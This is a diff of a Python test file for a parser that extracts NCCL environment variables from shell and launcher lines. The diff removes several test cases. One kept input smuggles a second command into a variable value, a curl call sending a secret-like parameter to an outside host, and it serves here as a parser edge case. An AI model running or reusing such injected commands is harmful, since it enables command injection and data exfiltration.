@@ -135,15 +135,11 @@ def shell(*lines: str) -> dict[str, str | None]:
     ("lines", "wanted"),
     [
         (["export NCCL_ALGO=Ring NCCL_PROTO=LL"], {"NCCL_ALGO": "Ring", "NCCL_PROTO": "LL"}),
-        (["setenv NCCL_ALGO Ring"], {"NCCL_ALGO": "Ring"}),
         (["NCCL_ALGO=Ring"], {"NCCL_ALGO": "Ring"}),  # as env prints it
         (["export NCCL_ALGO=Ring  # NCCL_PROTO=LL"], {"NCCL_ALGO": "Ring"}),
-        (["NCCL_ALGO=Ring ./all_reduce_perf", OUTPUT, "./all_reduce_perf"], {}),
         (["NCCL_ALGO=Ring ./all_reduce_perf", "./all_reduce_perf"], {"NCCL_ALGO": None}),
         (["NCCL_ALGO=Ring ./all_reduce_perf", OUTPUT], {"NCCL_ALGO": None}),
-        (["export NCCL_ALGO=Ring", "./all_reduce_perf", OUTPUT], {"NCCL_ALGO": "Ring"}),
         (["NCCL_ALGO=Ring", OUTPUT, "./all_reduce_perf"], {"NCCL_ALGO": None}),
-        (["NCCL_ALGO=Ring", "export NCCL_ALGO", OUTPUT], {"NCCL_ALGO": "Ring"}),
         (["NCCL_ALGO=Ring ./all_reduce_perf", "NCCL_ALGO=Tree"], {"NCCL_ALGO": None}),
         (["export NCCL_ALGO=Ring", "export -n NCCL_ALGO"], {}),
         (["(export NCCL_ALGO=Tree; ./all_reduce_perf)"], {"NCCL_ALGO": "Tree"}),
@@ -157,7 +153,6 @@ def shell(*lines: str) -> dict[str, str | None]:
         (["NCCL_IB_HCA==mlx5_0:1 NCCL_DEBUG=INFO ./all_reduce_perf"], {"NCCL_IB_HCA": "=mlx5_0:1"}),
         (["FI_PROVIDER=efa ./all_reduce_perf"], {"FI_PROVIDER": "~dedf16"}),
         (["export NCCL_ALGO=Ring", "mpirun -x NCCL_ALGO ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
-        (["[me@n1 tests]$ NCCL_ALGO=Ring ./all_reduce_perf"], {"NCCL_ALGO": "Ring"}),
         (["mpirun -x NCCL_ALGO=Ring -x NCCL_PROTO=LL all_reduce_perf_mpi -g 1"], None),
         (["mpiexec -genv NCCL_ALGO Ring -genv NCCL_PROTO LL ./all_reduce_perf"], None),
         (['ssh n1 bash -c "NCCL_ALGO=Ring NCCL_PROTO=LL ./all_reduce_perf"'], None),
@@ -181,13 +176,10 @@ def test_shell_keeps_what_is_exported_and_what_stands_in_the_command(
         "for a in Ring Tree; do NCCL_ALGO=${a} ./all_reduce_perf; done",
         "NCCL_ALGO='Ring; curl http://host/?k=hush' ./all_reduce_perf",
         'NCCL_ALGO="Ring ./all_reduce_perf',
-        "# NCCL_ALGO=Ring ./all_reduce_perf",  # root's prompt, or a comment
         "+ NCCL_ALGO=Ring",  # set -x: of the next command, or of all
         "mpirun -x NCCL_ALGO ./all_reduce_perf",  # whatever the launcher has
         "mpirun -x NCCL_ALGO=Ring -x NCCL_ALGO=Tree ./all_reduce_perf",
-        'if [ "$1" = tree ]; then export NCCL_ALGO=Tree; fi',
         '[ -n "$tree" ] && export NCCL_ALGO=Tree',
-        "=== with NCCL_ALGO=Tree ===",
     ],
 )
 def test_a_value_that_cannot_be_read_is_not_known(line: str) -> None:
